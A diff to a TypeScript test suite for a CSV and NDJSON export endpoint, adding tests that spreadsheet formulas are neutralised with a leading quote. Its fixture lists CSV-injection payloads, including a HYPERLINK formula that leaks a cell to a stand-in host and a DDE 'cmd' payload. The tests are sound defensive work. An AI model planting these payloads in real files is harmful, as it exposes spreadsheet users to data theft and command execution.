@@ -1,5 +1,5 @@
 // Streaming export: CSV and NDJSON of every row of the metrics, answers and sources endpoints,
-// the same values as JSON, RFC 4180 quoting, one token per 1 000 rows, errors before the first
+// the same values as JSON, RFC 4180 quoting, no formula a spreadsheet would run, one token per 1 000 rows, errors before the first
 // byte as the usual envelope, and a client that goes away stops the query.
 import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
 import { newId } from '../../src/db/ids.js';
@@ -7,10 +7,12 @@ import { csvField, negotiateExport } from '../../src/rest/export.js';
 import { createKeyedWorkspace, createTestApp, json, type TestApp } from '../support/app.js';
 import { listen } from '../support/listen.js';
 import { memoryRateLimitStore } from '../../src/auth/rate-limit-store.js';
-import { STREAM_POOL_SIZE } from '../../src/db/client.js';
+import { EXPORT_APPLICATION_NAME } from '../../src/db/client.js';
 
 const TOKEN = 'e'.repeat(40);
 const TRICKY = 'Acme, "the best"\nsecond line\r\nthird, with "quotes"';
+/** Texts a spreadsheet would run (OWASP's CSV injection), as answers of the first day; the first is also a prompt. */
+const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
 let t: TestApp;
 let key: string;
 let projectId: string;
@@ -59,7 +61,7 @@ beforeAll(async () => {
   const lines = ['2026-10-01', '2026-10-02', '2026-10-03', '2026-10-04'].map((date, day) => ({
     project: projectId, date, model: 'chatgpt', locale: 'en-US',
     runs: Array.from({ length: 500 }, (_, index) => ({
-      prompt: `prompt ${index}`, answer: day === 0 && index === 0 ? TRICKY : `answer ${day}/${index}`, brandMentions: index % 3 === 0 ? 1 : 0, totalMentions: 2,
+      prompt: index === 1 ? FORMULAS[0]! : `prompt ${index}`, answer: day === 0 && index === 0 ? TRICKY : (day === 0 && FORMULAS[index - 1]) || `answer ${day}/${index}`, brandMentions: index % 3 === 0 ? 1 : 0, totalMentions: 2,
       position: index % 3 === 0 ? 1 : null, sentiment: index % 3 === 0 ? 'positive' : null,
       citations: index % 2 ? [{ url: `https://site${index % 7}.example.com/${index}`, title: 'T, "x"' }] : [],
     })),
@@ -90,6 +92,19 @@ describe('negotiation and quoting', () => {
     expect(csvField(null)).toBe('');
     expect(csvField([{ a: 1 }])).toBe('"[{""a"":1}]"');
     expect(csvField(0.25)).toBe('0.25');
+  });
+
+  it('neutralises text a spreadsheet would run as a formula with a leading quote (OWASP), numbers stay numbers', () => {
+    expect(csvField('=1+1')).toBe("'=1+1");
+    expect(csvField('+1')).toBe("'+1");
+    expect(csvField('-1')).toBe("'-1");
+    expect(csvField('@SUM(A1)')).toBe("'@SUM(A1)");
+    expect(csvField('\t=1')).toBe("'\t=1");
+    expect(csvField('\r=1')).toBe(`"'\r=1"`);
+    expect(csvField('=HYPERLINK("x","y")')).toBe(`"'=HYPERLINK(""x"",""y"")"`);
+    expect(csvField(' =1')).toBe(' =1');
+    expect(csvField('a=1')).toBe('a=1');
+    expect(csvField(-0.5)).toBe('-0.5');
   });
 });
 
@@ -122,6 +137,21 @@ describe('answers', () => {
   it('stream everything since dateFrom when dateTo is left out (dateTo defaults to today)', async () => {
     const rows = parseCsv(await (await exported('/answers?dateFrom=2026-08-01', 'text/csv')).text());
     expect(rows).toHaveLength(1 + 2500);
+  });
+
+  it('leave no cell a spreadsheet would run in CSV, and every text as it is in NDJSON', async () => {
+    const path = '/answers?dateFrom=2026-10-01&dateTo=2026-10-01&locale=en-US';
+    const [header, ...rows] = parseCsv(await (await exported(path, 'text/csv')).text());
+    const text = header!.indexOf('text');
+    const prompt = header!.indexOf('prompt');
+    for (const formula of FORMULAS) {
+      expect(rows.filter((row) => row[text] === `'${formula}`)).toHaveLength(1);
+    }
+    expect(rows.filter((row) => row[prompt] === `'${FORMULAS[0]}`)).toHaveLength(1);
+    expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
+    const records = (await (await exported(path, 'application/x-ndjson')).text()).trimEnd().split('\n').map((line) => JSON.parse(line));
+    expect(records.map((record) => record.text).filter((value: string) => FORMULAS.includes(value))).toHaveLength(FORMULAS.length);
+    expect(records.filter((record) => record.prompt === FORMULAS[0])).toHaveLength(1);
   });
 
   it('apply the same filters as JSON', async () => {
@@ -196,7 +226,7 @@ describe('errors, rate limit and disconnects', () => {
     expect(total() - before).toBe(3);
   });
 
-  it('answers HEAD without opening a cursor, and 503 with Retry-After when every export connection is streaming', async () => {
+  it('answers HEAD without opening a cursor', async () => {
     // Counted at connect, not by connections in use: the previous test's cursor may still be closing.
     const connects = vi.spyOn(t.database.streamPool, 'connect');
     try {
@@ -206,20 +236,6 @@ describe('errors, rate limit and disconnects', () => {
     } finally {
       connects.mockRestore();
     }
-    await expect.poll(() => t.database.streamPool.totalCount - t.database.streamPool.idleCount, { timeout: 5_000 }).toBe(0);
-    // Every export connection taken, as by exports that stream on: the next export waits 2 s, then 503.
-    const taken = await Promise.all(Array.from({ length: STREAM_POOL_SIZE }, () => t.database.streamPool.connect()));
-    try {
-      const busy = await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-31', 'text/csv');
-      expect(busy.status).toBe(503);
-      expect(busy.headers.get('retry-after')).toBe('5');
-      expect((await json(busy)).error.code).toBe('unavailable');
-    } finally {
-      for (const client of taken) client.release();
-    }
-    const after = await exported('/answers?dateFrom=2026-10-01&dateTo=2026-10-01', 'text/csv');
-    expect(after.status).toBe(200);
-    await after.text();
   });
 
   it('cuts the connection when the stream fails after its headers, and the server stays up', async () => {
@@ -248,7 +264,7 @@ describe('errors, rate limit and disconnects', () => {
       await reader.read();
       controller.abort();
       await reader.cancel().catch(() => {});
-      const open = async () => (await t.database.pool.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE query LIKE '%FROM ai_answers a JOIN ai_prompts pr%' AND pid <> pg_backend_pid() AND state <> 'idle'")).rows[0].n;
+      const open = async () => (await t.database.pool.query("SELECT count(*)::int AS n FROM pg_stat_activity WHERE application_name = $1 AND state <> 'idle'", [EXPORT_APPLICATION_NAME])).rows[0].n;
       await expect.poll(open, { timeout: 5_000 }).toBe(0);
     } finally {
       await server.close();
